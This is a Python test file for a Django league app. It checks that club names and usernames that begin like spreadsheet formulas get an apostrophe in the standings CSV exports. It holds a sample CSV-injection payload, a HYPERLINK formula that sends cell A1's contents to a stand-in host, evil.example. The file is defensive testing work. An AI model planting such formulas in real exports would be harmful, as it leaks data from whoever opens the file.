"""The standings CSV exports are opened in spreadsheets by whoever downloads them. A cell that holds
someone's chosen text (a club's name, a username) and starts like a formula (= + - @, a tab, a
carriage return) would be run by the spreadsheet: it opens with an apostrophe instead, so it shows as
the text it is. Numbers stay numbers, negative ones included."""

from __future__ import annotations

import csv
import io
import uuid

import pytest
from django.contrib.auth import get_user_model

from league.seasons import services as season_services
from league.tournaments import services as tournament_services
from matches.commands import AT_HEAD

from .tournaments.helpers import people, settle

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click for your prize")'


def rows_of(response) -> list[dict]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_a_club_named_like_a_formula_is_text_in_the_season_standings_csv(client_for, make_user):
    league = season_services.league_load_iwdl()
    league.created_by = make_user("organiser")
    league.save()
    organiser = client_for(league.created_by)
    made = organiser.post("/api/leagues/iwdl/clubs/", {"slug": "prize-club", "name": FORMULA}, format="json")
    assert made.status_code == 201
    season = organiser.post(
        "/api/leagues/iwdl/seasons/",
        {"start_date": "2027-01-04", "double": True, "clubs": ["prize-club", "brassgate-djinn"]},
        format="json",
    )
    assert season.status_code == 201, season.json()
    fixture = client_for().get("/api/leagues/iwdl/seasons/1/fixtures/").json()["fixtures"][0]
    head = organiser.get("/api/leagues/iwdl/seasons/1/").json()["head_seq"]
    corrected = organiser.post(
        f"/api/leagues/iwdl/seasons/1/fixtures/{fixture['key']}/",
        {
            "action": "correct",
            "home_left": 0,
            "away_left": 3,
            "reason": "Recorded at the table",
            "expected_seq": head,
            "event_id": str(uuid.uuid4()),
        },
        format="json",
    )
    assert corrected.status_code == 200, corrected.json()

    rows = rows_of(client_for().get("/api/leagues/iwdl/seasons/1/standings/", {"export": "csv"}))

    prize = next(r for r in rows if r["club"] == "prize-club")
    assert prize["name"] == "'" + FORMULA
    assert sorted(r["wizard_difference"] for r in rows) == ["-3", "3"]  # numbers, not text
    assert {r["points"] for r in rows} == {"0", "3"}
    # The JSON standings keep the name as the organiser wrote it.
    table = client_for().get("/api/leagues/iwdl/seasons/1/standings/").json()["standings"]
    assert FORMULA in {r["name"] for r in table}


@pytest.mark.parametrize("username", ["-2+3", "+1+1", "@SUM", "=cmd"])
def test_a_username_that_starts_like_a_formula_is_text_in_the_tournament_standings_csv(username, alice, client_for):
    User = get_user_model()
    if not username.startswith("="):
        User.username_validator(username)  # sign-up accepts it: anyone may take this name
    players = [User.objects.create_user(username, password="pw"), *people("plain1", "plain2", "plain3")]
    t = tournament_services.tournament_create(
        created_by=alice, name="Open", game="dueling-wizards", format="swiss", options={"rounds": 2}
    )
    for user in players:
        tournament_services.tournament_register(tournament=t, user=user, by=alice, expected_seq=AT_HEAD)
    tournament_services.tournament_start(tournament=t, by=alice, expected_seq=AT_HEAD)
    settle(t, lambda r: None)  # every game drawn: half points

    rows = rows_of(client_for().get(f"/api/tournaments/{t.id}/standings.csv"))

    assert {r["player"] for r in rows} == {"'" + username, "plain1", "plain2", "plain3"}
    assert {r["score"] for r in rows} == {"0.5"}
    assert {r["table"] for r in rows} == {"Standings"}
